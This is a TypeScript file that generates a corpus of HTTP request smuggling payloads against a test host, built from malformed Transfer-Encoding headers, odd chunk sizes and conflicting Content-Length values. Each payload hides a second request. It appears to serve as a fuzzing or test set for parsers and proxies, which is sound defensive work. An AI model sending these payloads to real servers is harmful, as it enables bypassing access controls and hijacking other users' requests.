// Requests that were used to make a proxy and its target disagree. Each hides a request for
// /smuggled in what one of the two readings takes for a body.

const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: shop.test\r\n\r\n';
const LENGTH = `Content-Length: ${HIDDEN.length + 5}\r\n`;

function post(fields: string, body: string): string {
  return `POST / HTTP/1.1\r\nHost: shop.test\r\n${fields}\r\n${body}`;
}

const CHUNKED_THEN_HIDDEN = `0\r\n\r\n${HIDDEN}`;

/** Spellings of Transfer-Encoding that some implementations take for chunked and others do not. */
const CODINGS = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding:\x0cchunked',
  'Transfer-Encoding: \0chunked',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: chunked\xa0',
  'Transfer-Encoding\xa0: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked;x',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunk\r\n ed',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n : chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\n\rTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\nX: y',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: CHUNKED, x',
  'Transfer-Encoding:',
  'Transfer-Encoding: ,chunked,',
  '\0Transfer-Encoding: chunked',
  'Transfer-Encoding\0: chunked',
];

const CHUNKS = [
  `0x${HIDDEN.length.toString(16)}\r\n`,
  '-1\r\n',
  '+0\r\n\r\n',
  '00000000000000000\r\n\r\n',
  '10000000000000000\r\n\r\n',
  'FFFFFFFFFFFFFFFF\r\n',
  '80000000000000000\r\n',
  '0 \r\n\r\n',
  ' 0\r\n\r\n',
  '0\n\r\n',
  '0\r\r\n',
  '0\r\n\n',
  '0;\n\r\n\r\n',
  '0;a\r\r\n\r\n',
  '0;a="\r\n\r\n',
  '1\r\nab\r\n0\r\n\r\n',
  '1\r\na\n0\r\n\r\n',
  '1\r\na0\r\n\r\n',
  '1\r\na\rX0\r\n\r\n',
  '1\r\naX\n0\r\n\r\n',
  '1\rX\na\r\n0\r\n\r\n',
  '0\rX\r\n',
  '2\r\na\r\n0\r\n\r\n',
  '0\r\nX : y\r\n\r\n',
  '0\r\nX: y\n\n',
  '0\r\n X: y\r\n\r\n',
  '0\r\nContent-Length: 5\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  '\r\n0\r\n\r\n',
  '0_\r\n\r\n',
  '1_0\r\n',
  '0.\r\n\r\n',
  '0\0\r\n\r\n',
];

const LENGTHS = [
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 0',
  'Content-Length: 0, 5',
  'Content-Length: 0\x0b',
  'Content-Length: +0',
  'Content-Length: -0',
  'Content-Length: 0x0',
  'Content-Length: 00',
  'Content-Length: 0 0',
  'Content-Length:',
  'Content-Length: \xb2',
  'Content-Length: 18446744073709551616',
  'Content-Length : 0',
  'Content-Length\0: 0',
  'Content-Length:\r\n 0',
  'Content-Length: 0\r\n 5',
  'Connection: Content-Length\r\nContent-Length: 0',
];

/** Name and text of each attempt. */
export const SMUGGLING_CORPUS: readonly (readonly [string, string])[] = [
  ...CODINGS.flatMap((coding): [string, string][] => [
    [`length, then ${coding}`, post(`${LENGTH}${coding}\r\n`, CHUNKED_THEN_HIDDEN)],
    [`${coding}, then length`, post(`${coding}\r\n${LENGTH}`, CHUNKED_THEN_HIDDEN)],
    [`${coding}, then length 3`, post(`${coding}\r\nContent-Length: 3\r\n`, CHUNKED_THEN_HIDDEN)],
  ]),
  ...CHUNKS.map((chunk): [string, string] => [
    `chunk ${chunk}`,
    post('Transfer-Encoding: chunked\r\n', chunk + HIDDEN),
  ]),
  ...LENGTHS.map((length): [string, string] => [length, post(`${length}\r\n`, HIDDEN)]),
  [
    'chunked in HTTP/1.0',
    post('Transfer-Encoding: chunked\r\n', CHUNKED_THEN_HIDDEN).replace('1.1', '1.0'),
  ],
  ['a body that holds a request', post(LENGTH, `01234${HIDDEN}`)],
  ['two Host fields', post('Host: evil.test\r\n', HIDDEN)],
  ['a head of bare LF', `POST / HTTP/1.1\nHost: shop.test\n\n${HIDDEN}`],
  ['a head that ends in LF LF', `POST / HTTP/1.1\r\nHost: shop.test\n\n${HIDDEN}`],
  ['a request line in a field', `GET / HTTP/1.1\r\nHost: shop.test\r\nX: a\r${HIDDEN}`],
];
